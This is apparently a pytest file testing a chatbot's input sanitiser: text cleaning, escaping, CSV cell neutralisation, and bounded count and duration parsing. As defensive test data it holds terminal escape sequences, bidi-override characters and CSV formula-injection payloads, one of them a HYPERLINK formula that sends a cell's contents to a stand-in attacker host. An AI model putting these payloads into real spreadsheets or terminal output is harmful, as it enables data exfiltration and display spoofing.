"""What people type: cleaned of control and format characters, shown with visible escapes, CSV cells that cannot be
formulas, and numbers and durations parsed with bounds (prepbot.core.userinput)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from prepbot.core.errors import BadInput
from prepbot.core.userinput import clean_text, csv_cell, parse_count, parse_duration, visible

HOSTILE = [
    "\x1b]0;pwned\x07",  # OSC: set the terminal title
    "\x1b[2J\x1b[H",  # CSI: clear the screen
    "\x9b31m",  # C1 CSI
    "\u202eevil\u202c",  # right-to-left override
    "\u2066isolate\u2069",
    "zero\u200bwidth\ufeffbom\u00adsoft",
    "\ud800",  # a lone surrogate
    "\U000e0041tag",  # a tag character
    "\ue000private",
    "\x00nul\x7fdel",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_clean_text_leaves_no_control_or_format_character(text: str) -> None:
    for multiline in (False, True):
        cleaned = clean_text(f"before {text} after", multiline=multiline)
        assert cleaned.startswith("before") and cleaned.endswith("after")
        assert all(ch == "\n" or ch.isprintable() or ch in "\u200c\u200d" for ch in cleaned), repr(cleaned)
        cleaned.encode("utf-8")  # no surrogate left to fail on


def test_clean_text_keeps_text_people_write() -> None:
    assert clean_text("  Пытки 🙂🇰🇿 torture  مرحبا  ") == "Пытки 🙂🇰🇿 torture مرحبا"
    assert clean_text("family 👨\u200d👩\u200d👧 and می\u200cخواهم") == "family 👨\u200d👩\u200d👧 and می\u200cخواهم"
    assert clean_text("line one\r\nline two\n\n\n\nthree\u2028four", multiline=True) == (
        "line one\nline two\n\nthree\nfour"
    )
    assert clean_text("line one\nline two") == "line one line two"
    assert clean_text("tab\tseparated") == "tab separated"
    assert clean_text(None) == "" and clean_text("x" * 50, max_chars=10) == "x" * 10


def test_visible_shows_what_it_would_remove() -> None:
    assert visible("a\x1b]0;t\x07b") == "a\\x1b]0;t\\x07b"
    assert visible("\u202eabc") == "\\u202eabc"
    assert visible("one\ntwo") == "one\ntwo" and visible("one\ntwo", multiline=False) == "one\\x0atwo"
    assert visible("\ud800") == "\\ud800" and visible("\U000e0041") == "\\U000e0041"
    assert visible("Пытки 🙂") == "Пытки 🙂"


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "＝1+1",
    ],  # fmt: skip
)
def test_csv_cells_that_would_be_formulas_are_text(cell: str) -> None:
    safe = csv_cell(cell)
    assert isinstance(safe, str) and safe.startswith("'")
    buffer = io.StringIO()
    csv.writer(buffer).writerow([safe])
    [[read]] = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert read == safe  # the apostrophe survives a round trip


def test_csv_cells_that_are_not_formulas_are_unchanged() -> None:
    assert csv_cell("What did the State say?") == "What did the State say?"
    assert csv_cell(42) == 42 and csv_cell(-3) == -3 and csv_cell(None) == ""
    assert csv_cell("a = b") == "a = b"


@pytest.mark.parametrize("value, expected", [("7", 7), (" 30 ", 30), ("+5", 5), (12, 12), ("3650", 3650)])
def test_counts_within_bounds(value, expected) -> None:
    assert parse_count(value, what="Days", minimum=1, maximum=3650) == expected


@pytest.mark.parametrize(
    "value",
    ["²", "٣", "0", "-1", "3651", "99999999999999999999999", "1e3", "7.5", "", "seven", "1" * 5000, True, None, 4000],
)
def test_counts_out_of_bounds_or_not_numbers_are_bad_input(value) -> None:
    with pytest.raises(BadInput, match="Days must be a whole number from 1 to 3,650"):
        parse_count(value, what="Days", minimum=1, maximum=3650)


def test_durations_within_bounds() -> None:
    assert parse_duration("30d") == parse_duration("30") == timedelta(days=30)
    assert parse_duration("2w") == timedelta(weeks=2) and parse_duration("90min") == timedelta(minutes=90)
    assert parse_duration("1.5h") == timedelta(hours=1.5) and parse_duration("0d") == timedelta(0)
    assert parse_duration("36500d") == timedelta(days=36500)


@pytest.mark.parametrize("value", ["99999999999d", "9999999999", "36501d", "5300w", "999999999h"])
def test_durations_too_long_are_bad_input(value: str) -> None:
    with pytest.raises(BadInput, match="too long"):
        parse_duration(value)


@pytest.mark.parametrize("value", ["3x", "-3d", "d", "1e400d", "nan", "inf", "", "²d"])
def test_durations_that_are_not_durations_are_bad_input(value: str) -> None:
    with pytest.raises(BadInput, match="not a duration"):
        parse_duration(value)


@pytest.mark.parametrize("value", ["3m", "90M", " 1 m "])
def test_a_bare_m_is_refused_as_ambiguous(value: str) -> None:
    # "logs purge --older-than 3m": three months meant, three minutes would delete nearly everything
    with pytest.raises(BadInput, match="minutes or months"):
        parse_duration(value)
